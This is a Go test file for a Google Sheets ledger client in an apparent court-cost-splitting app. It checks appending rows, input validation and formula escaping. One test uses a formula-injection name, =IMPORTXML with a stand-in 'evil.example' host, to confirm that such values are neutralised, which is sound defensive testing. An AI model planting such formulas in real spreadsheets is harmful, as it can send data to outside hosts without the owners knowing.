package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"

	"github.com/shopspring/decimal"
	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"courtsplit/internal/core"
)

// fakeSheets serves the two Values endpoints AppendLedger uses.
type fakeSheets struct {
	mu       sync.Mutex
	existing int
	updates  []fakeUpdate
}

type fakeUpdate struct {
	path   string
	option string
	values [][]any
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	w.Header().Set("Content-Type", "application/json")
	switch r.Method {
	case http.MethodGet:
		values := make([][]any, f.existing)
		for i := range values {
			values[i] = []any{"x"}
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"values": values})
	case http.MethodPut:
		body, _ := io.ReadAll(r.Body)
		var vr struct {
			Values [][]any `json:"values"`
		}
		_ = json.Unmarshal(body, &vr)
		f.updates = append(f.updates, fakeUpdate{
			path:   r.URL.Path,
			option: r.URL.Query().Get("valueInputOption"),
			values: vr.Values,
		})
		f.existing += len(vr.Values) + 1
		_ = json.NewEncoder(w).Encode(map[string]any{"updatedRows": len(vr.Values)})
	default:
		http.Error(w, "unexpected", http.StatusMethodNotAllowed)
	}
}

func newTestClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("failed to create sheets service: %v", err)
	}
	return New(svc, "sheet-id", "")
}

func ledgerRows() []core.LedgerRow {
	return []core.LedgerRow{
		{ParticipantID: "a", Name: "Asha", MinutesPlayed: 60, CourtShare: decimal.NewFromInt(300), TotalOwed: decimal.NewFromInt(300), TotalContributed: decimal.NewFromInt(600), NetBalance: decimal.NewFromInt(300)},
		{ParticipantID: "b", Name: "Ben", MinutesPlayed: 60, CourtShare: decimal.NewFromInt(300), TotalOwed: decimal.NewFromInt(300), NetBalance: decimal.NewFromInt(-300)},
	}
}

func TestAppendLedger_EmptySheet(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	ref, err := c.AppendLedger(context.Background(), "Tuesday doubles", ledgerRows())
	if err != nil || ref != "Settlements!A1:G4" {
		t.Fatalf("unexpected append: ref=%q err=%v", ref, err)
	}

	if len(fake.updates) != 1 {
		t.Fatalf("expected one update, got %d", len(fake.updates))
	}
	up := fake.updates[0]
	if up.option != "USER_ENTERED" {
		t.Errorf("valueInputOption %q", up.option)
	}
	if !strings.HasSuffix(up.path, "/values/Settlements!A1:G4") {
		t.Errorf("unexpected path %s", up.path)
	}
	if len(up.values) != 4 {
		t.Fatalf("expected title, header and 2 rows, got %d", len(up.values))
	}
	if !reflect.DeepEqual(up.values[0], []any{"Tuesday doubles"}) {
		t.Errorf("title row %v", up.values[0])
	}
	if up.values[1][0] != "Player" {
		t.Errorf("header row %v", up.values[1])
	}
	want := []any{"Ben", "60", "300.00", "0.00", "300.00", "0.00", "-300.00"}
	if !reflect.DeepEqual(up.values[3], want) {
		t.Errorf("row %v, want %v", up.values[3], want)
	}
}

func TestAppendLedger_LeavesSpacerRow(t *testing.T) {
	fake := &fakeSheets{existing: 4}
	c := newTestClient(t, fake)

	ref, err := c.AppendLedger(context.Background(), "Friday", ledgerRows())
	if err != nil || ref != "Settlements!A6:G9" {
		t.Fatalf("unexpected append: ref=%q err=%v", ref, err)
	}
}

func TestAppendLedger_Validation(t *testing.T) {
	c := New(nil, "id", "Custom")
	if c.sheetName != "Custom" {
		t.Errorf("sheet name %q", c.sheetName)
	}

	_, err := c.AppendLedger(context.Background(), " ", ledgerRows())
	if err == nil || err.Error() != "empty table title" {
		t.Errorf("expected empty title error, got %v", err)
	}

	_, err = c.AppendLedger(context.Background(), "title", ledgerRows())
	if err == nil || err.Error() != "sheets service not initialized" {
		t.Errorf("expected uninitialized service error, got %v", err)
	}
}

func TestAppendLedger_EscapesFormulaText(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	rows := ledgerRows()
	rows[0].Name = `=IMPORTXML("http://evil.example","//a")`
	rows[1].Name = "@Ben"

	if _, err := c.AppendLedger(context.Background(), "+Tuesday", rows); err != nil {
		t.Fatalf("append: %v", err)
	}

	if len(fake.updates) != 1 {
		t.Fatalf("expected one update, got %d", len(fake.updates))
	}
	up := fake.updates[0]
	if !reflect.DeepEqual(up.values[0], []any{"'+Tuesday"}) {
		t.Errorf("title row %v", up.values[0])
	}
	if got := up.values[2][0]; got != `'=IMPORTXML("http://evil.example","//a")` {
		t.Errorf("formula name not escaped: %v", got)
	}
	if got := up.values[3][0]; got != "'@Ben" {
		t.Errorf("@ name not escaped: %v", got)
	}
	// amounts stay numeric
	if got := up.values[3][6]; got != "-300.00" {
		t.Errorf("net balance %v", got)
	}
}

func TestTextCell(t *testing.T) {
	tests := map[string]string{
		"":         "",
		"Asha":     "Asha",
		"=1+1":     "'=1+1",
		"+44 7700": "'+44 7700",
		"-Ben":     "'-Ben",
		"@home":    "'@home",
		"O'Neil":   "O'Neil",
	}
	for in, want := range tests {
		if got := textCell(in); got != want {
			t.Errorf("textCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNewFromCredentials_Validation(t *testing.T) {
	_, err := NewFromCredentials(context.Background(), []byte("{}"), " ", "")
	if err == nil || err.Error() != "missing spreadsheet ID" {
		t.Errorf("expected missing spreadsheet error, got %v", err)
	}

	_, err = NewFromCredentials(context.Background(), nil, "sheet-id", "")
	if err == nil || err.Error() != "missing service account credentials" {
		t.Errorf("expected missing credentials error, got %v", err)
	}
}

func TestLastColumn(t *testing.T) {
	if got := lastColumn(); got != "G" {
		t.Errorf("lastColumn() = %q, want G", got)
	}
}
